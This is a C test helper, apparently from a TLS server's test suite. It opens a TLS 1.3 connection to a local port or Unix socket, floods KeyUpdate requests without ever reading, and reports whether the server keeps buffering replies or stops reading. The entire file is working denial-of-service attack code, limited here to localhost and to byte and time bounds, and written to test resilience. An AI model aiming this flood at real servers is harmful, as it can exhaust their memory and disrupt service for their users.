/*
 * An attacker's TLS 1.3 client for test_tls_cli.py: completes a handshake
 * with 127.0.0.1:PORT, then sends KeyUpdate messages that ask for an
 * answer (RFC 8446 section 4.6.3, update_requested) as fast as the
 * connection takes them, and never reads. A server that reads on while its
 * answers cannot leave queues them without limit.
 *
 * Usage: tls_keyupdate_flood TARGET MAX_BYTES MAX_SECONDS
 * TARGET: a port on 127.0.0.1, or the path of a Unix socket (whose small,
 * fixed buffers make the test quick). Prints "sent N blocked B": N bytes
 * of KeyUpdate records handed to the kernel; B = 1 when a send then
 * waited 3 s without progress, 0 when MAX_BYTES went out or MAX_SECONDS
 * passed first. Then, still not reading, waits 3 s more and prints
 * "read R": the bytes the server took from the connection meanwhile
 * (SIOCOUTQ; 0 when it stopped reading). Exit 1 on a setup failure.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/sockios.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

int main(int argc, char **argv)
{
	if (argc != 4)
		return 1;
	long long max = atoll(argv[2]);
	double secs = atof(argv[3]);
	int fd, r;
	if (argv[1][0] == '/') {
		struct sockaddr_un u = {.sun_family = AF_UNIX};
		if (strlen(argv[1]) >= sizeof u.sun_path)
			return 1;
		strcpy(u.sun_path, argv[1]);
		fd = socket(AF_UNIX, SOCK_STREAM, 0);
		r = connect(fd, (struct sockaddr *)&u, sizeof u);
	} else {
		struct sockaddr_in a = {.sin_family = AF_INET,
		                        .sin_port =
		                            htons((uint16_t)atoi(argv[1]))};
		inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
		fd = socket(AF_INET, SOCK_STREAM, 0);
		/* Before connect: the window offered stays small. */
		int small = 4096;
		setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
		r = connect(fd, (struct sockaddr *)&a, sizeof a);
	}
	if (r != 0) {
		perror("connect");
		return 1;
	}
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION);
	SSL *s = SSL_new(ctx);
	SSL_set_fd(s, fd);
	if (SSL_connect(s) != 1) {
		ERR_print_errors_fp(stderr);
		return 1;
	}
	/* From now on records are made in memory and sent in large pieces,
	 * so the flood runs at the speed of the connection. */
	BIO *mem = BIO_new(BIO_s_mem());
	SSL_set0_wbio(s, mem);
	struct timeval tv = {.tv_sec = 3};
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
	long long sent = 0;
	int blocked = 0;
	struct timespec t0, now;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (sent >= max || blocked ||
		    (double)(now.tv_sec - t0.tv_sec) +
		            (double)(now.tv_nsec - t0.tv_nsec) / 1e9 >=
		        secs)
			break;
		for (int i = 0; i < 4096; i++)
			if (SSL_key_update(s, SSL_KEY_UPDATE_REQUESTED) != 1 ||
			    SSL_do_handshake(s) != 1) {
				ERR_print_errors_fp(stderr);
				return 1;
			}
		char *p;
		long n = BIO_get_mem_data(mem, &p);
		long off = 0;
		while (off < n) {
			ssize_t k =
			    send(fd, p + off, (size_t)(n - off), MSG_NOSIGNAL);
			if (k < 0 && errno == EINTR)
				continue;
			if (k < 0) {
				blocked =
				    errno == EAGAIN || errno == EWOULDBLOCK;
				if (!blocked)
					perror("send");
				break;
			}
			off += k;
			sent += k;
		}
		(void)BIO_reset(mem);
		if (off < n && !blocked)
			break;
	}
	printf("sent %lld blocked %d\n", sent, blocked);
	fflush(stdout);
	int q0 = 0, q1 = 0;
	ioctl(fd, SIOCOUTQ, &q0);
	sleep(3);
	ioctl(fd, SIOCOUTQ, &q1);
	printf("read %d\n", q0 - q1);
	SSL_free(s); /* and mem with it */
	SSL_CTX_free(ctx);
	close(fd);
	return 0;
}
